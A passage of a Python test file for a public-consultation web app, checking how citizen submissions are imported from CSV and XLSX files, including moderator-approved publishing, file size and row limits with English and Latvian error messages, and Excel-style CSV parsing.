    result = runner.invoke(args=["import-submissions", "--consultation", DEMO, "--publish", str(path)])
    assert result.exit_code == 2 and "--publish needs --entered-by" in result.output
    result = runner.invoke(args=["import-submissions", "--consultation", DEMO, "--publish", "--entered-by",
                                 "moderators@example.test", str(path)])
    assert result.exit_code == 0, result.output + result.stderr
    assert "approved by moderators@example.test" in result.output
    with app.app_context():
        comments = db.session.query(Comment).all()
        assert {(c.status, c.needs_review, c.moderated_by_id) for c in comments} == {("approved", False, moderator)}
        approvals = db.session.query(ModerationEvent).filter_by(action="approve").all()
        assert sorted(e.target_id for e in approvals) == sorted(c.id for c in comments)
        # Published, they go into the campaigns like any comment.
        from consult.models import Consultation
        found = analyse_texts(db.session.query(Consultation).filter_by(slug=DEMO).one()).campaigns
        assert [campaign.size for campaign in found] == [3]


def test_an_xlsx_that_unpacks_to_too_much_is_refused_before_it_is_opened(app, demo, monkeypatch):
    from consult.services import submissions
    data = xlsx_bytes([["section", "text", "received date", "channel"], [1, "Teksts.", "2026-03-02", "letter"]])
    monkeypatch.setattr(submissions.reading, "_MAX_XLSX_UNPACKED", 1000)   # a real "ZIP bomb" would need 200 MB here
    assert run_import(app, data, filename="a.xlsx")[1] == [
        "The file is larger than 10 MB, the most that can be imported at once. Split it into smaller files."]


def test_a_file_over_the_pages_line_limit_is_refused_there(app, demo, monkeypatch):
    from consult.services import submissions
    with app.app_context():
        with pytest.raises(Refused) as refused:
            submissions.import_file(consultation(), csv_bytes(*GOOD), "a.csv", max_rows=2)
        assert messages_in("en", refused.value) == ["The file has more than 2 submissions. Split it into smaller "
                                                    "files."]
        assert messages_in("lv", refused.value) == ["Failā ir vairāk nekā 2 iesniegumu. Sadaliet to mazākos failos."]


def test_a_csv_as_excel_saves_it_with_a_bom_crlf_and_semicolons_is_read(app, demo):
    from consult.extensions import db
    from consult.models import Comment
    data = "\ufeff" + "\r\n".join([HEADINGS.replace(",", ";"), '1;;;"Divas rindas,\r\nviena šūna";;;2026-03-02;letter',
                                   "2;;;Otrs.;;;2026-03-03;meeting"]) + "\r\n"
    assert run_import(app, data.encode("utf-8")) == (2, None)
    with app.app_context():
        assert [c.body for c in db.session.query(Comment).order_by(Comment.id)] == ["Divas rindas,\nviena šūna",
                                                                                    "Otrs."]
